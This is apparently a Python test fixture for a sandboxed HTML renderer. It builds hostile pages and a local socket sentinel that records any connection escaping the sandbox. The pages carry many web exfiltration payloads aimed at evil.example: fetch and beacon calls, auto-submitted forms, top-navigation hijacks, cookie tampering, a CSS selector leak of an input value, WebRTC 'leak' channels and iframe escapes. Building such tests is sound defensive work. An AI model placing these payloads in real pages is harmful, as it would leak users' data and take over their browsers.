"""Pages that mean harm to whoever opens them, and a sentinel to which every way out of the machine leads."""

from __future__ import annotations

import socket
import threading
from typing import Self

EVIL = "https://evil.example"
HARM = """
document.title = 'harmed';
for (const attempt of [
  () => { document.cookie = 'harmed=1'; },
  () => { localStorage.harmed = 1; },
  () => { top.document.documentElement.setAttribute('harmed', top.document.cookie); },
  () => { top.localStorage.harmed = 1; },
  () => { navigator.serviceWorker.register('/worker.js'); },
]) { try { attempt(); } catch (error) { } }
"""
"""What each page tries beside its own trade, if it can run anything at all."""


def hostile_pages(port: int) -> dict[str, str]:
    """Return the pages by name; they know the sentinel's `port`, for what needs no name."""
    here = f"http://127.0.0.1:{port}"
    return {
        "fetch": f"""<script>{HARM}
            fetch('{EVIL}/fetch', {{mode: 'no-cors'}}); fetch('{here}/fetch', {{mode: 'no-cors'}});
            const request = new XMLHttpRequest(); request.open('GET', '{EVIL}/xhr'); request.send();
            new WebSocket('wss://evil.example/'); new EventSource('{EVIL}/events');
            import('{EVIL}/module.js'); new Image().src = '{here}/image';
            </script><script src={EVIL}/x.js></script><script type=module src={EVIL}/m.js></script>
            <link rel=preconnect href={EVIL}><link rel=modulepreload href={EVIL}/p.js>""",
        "beacons": f"""<script>{HARM} navigator.sendBeacon('{EVIL}/beacon', 'x')</script>
            <img src={EVIL}/pixel.png width=1 height=1 onload="{HARM}" onerror="fetch('{EVIL}/error')">
            <img src=//evil.example/p srcset="{here}/1x.png 1x, {here}/2x.png 2x" referrerpolicy=unsafe-url>
            <a href=/other ping={EVIL}/ping>Ping</a><body background={here}/back.png>
            <video src={EVIL}/v poster={here}/p.png autoplay></video><audio src={EVIL}/a autoplay></audio>
            <object data={EVIL}/o></object><embed src={EVIL}/e><input type=image src={here}/button.png>""",
        "forms": f"""<form id=f action={EVIL}/f method=post><input name=a><button>Send</button></form>
            <form action={EVIL}/get target=_top><input type=submit formaction={here}/submit value=Go></form>
            <button form=f formaction={here}/other formtarget=_blank>Other</button>
            <script>{HARM} document.forms[0].submit()</script>""",
        "top navigation": f"""<base target=_top><a href={EVIL}/top>Top</a>
            <a href={here}/parent target=_parent>Parent</a><a href="{EVIL}/blank" target=_blank>New</a>
            <a href="javascript:top.location='{EVIL}/js'">Script</a>
            <svg width=90 height=20><a href={EVIL}/svg target=_top><text y=15>Drawn</text></a></svg>
            <script>{HARM} window.open('{EVIL}/open'); top.location = '{EVIL}/location'</script>""",
        "refresh": f"""<meta http-equiv=refresh content="0;url={EVIL}/refresh">
            <meta http-equiv=set-cookie content="harmed=1"><noscript>
            <meta http-equiv=refresh content="0;url={here}/noscript">
            <meta http-equiv=refresh content="0;url=data:text/html,<img src={here}/data>"></noscript>""",
        "drawing": f"""<svg xmlns:xlink=http://www.w3.org/1999/xlink onload="{HARM}">
            <script>{HARM} fetch('{EVIL}/svg')</script><script xlink:href={EVIL}/svg.js></script>
            <image href={EVIL}/i.png width=9 height=9 /><image xlink:href={here}/x.png width=9 height=9 />
            <use href={EVIL}/sprite.svg#a /><a><set attributeName=href to={EVIL} begin=0s /></a>
            <foreignObject width=9 height=9><img src={here}/foreign.png></foreignObject></svg>
            <img src=drawing.svg><object data=drawing.svg></object><iframe src=drawing.svg></iframe>""",
        "style": f"""<style>@import "{EVIL}/import.css"; @\\69mport '{here}/escaped.css';
            @font-face {{ font-family: F; src: url({here}/font.woff) }} body {{ font-family: F, serif }}
            body {{ background: u\\72l({here}/url.png), image-set("{here}/set.png" 1x) }}
            input[value^=s] {{ background: url({here}/leak?s) }} a {{ cursor: url({here}/c.cur), auto }}
            li {{ list-style: url({here}/li.png) }} p::before {{ content: url({here}/content.png) }}</style>
            <link rel=stylesheet href={EVIL}/l.css><link rel="preload stylesheet" as=style href={here}/l.css>
            <input value=secret><li>List</li><p style="border-image: url({here}/border.png)">Text</p>
            <svg><rect width=9 height=9 fill="url({here}/f.svg#a)" filter="url({here}/f.svg#f)"/></svg>
            <link rel=icon href={here}/icon.png><link rel=dns-prefetch href={EVIL}>""",
        "calls": f"""<script>{HARM}
            const servers = ['evil.example', '127.0.0.1'].flatMap(host => [
              {{urls: `stun:${{host}}:{port}`}},
              {{urls: `turn:${{host}}:{port}?transport=tcp`, username: 'a', credential: 'b'}},
            ]);
            const call = new RTCPeerConnection({{iceServers: servers}}); call.createDataChannel('leak');
            call.createOffer().then(offer => call.setLocalDescription(offer));
            </script><p>Calls""",
        "frames": f"""<iframe src={EVIL}/frame></iframe><iframe src=//evil.example/f sandbox="allow-scripts
            allow-same-origin allow-top-navigation"></iframe><iframe src="javascript:{HARM}"></iframe>
            <iframe srcdoc="<img src={here}/doc.png><script>{HARM} top.location = '{EVIL}/srcdoc'</script>
            <iframe srcdoc='<meta http-equiv=refresh content=0;url={here}/deep>'></iframe>"></iframe>
            <iframe src=inner.html allow="camera; microphone"></iframe><portal src={EVIL}/portal></portal>
            <iframe src="data:text/html,<img src={here}/data.png>"></iframe>""",
    }


def hostile_parts(port: int) -> dict[str, tuple[str, str]]:
    """Return what the pages load beside them, by name: text and media type."""
    here = f"http://127.0.0.1:{port}"
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"'
        f' onload="fetch(\'{here}/onload\')"><script>fetch("{here}/script")</script>'
        f'<style>@import url({here}/style.css);</style><image x:href="{here}/i.png" width="9" height="9"/>'
        "</svg>"
    )
    inner = f"<script>{HARM} fetch('{here}/inner')</script><iframe src={here}/deeper></iframe><p>Inner"
    return {"drawing.svg": (drawing, "image/svg+xml"), "inner.html": (inner, "text/html")}


class Sentinel:
    """Listens on a port of its own, for TCP and UDP, and notes who comes; nobody gets an answer."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self._ending = False
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._tcp.getsockname()[1])
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self._threads = [threading.Thread(target=each) for each in (self._accept, self._receive)]

    def _accept(self) -> None:
        while True:
            connection, _ = self._tcp.accept()
            with connection:
                if self._ending:
                    return
                self.hits.append("TCP")

    def _receive(self) -> None:
        while True:
            self._udp.recv(1000)
            if self._ending:
                return
            self.hits.append("UDP")

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._ending = True
        self._udp.sendto(b"", ("127.0.0.1", self.port))
        socket.create_connection(("127.0.0.1", self.port)).close()
        for thread in self._threads:
            thread.join()
        self._tcp.close()
        self._udp.close()
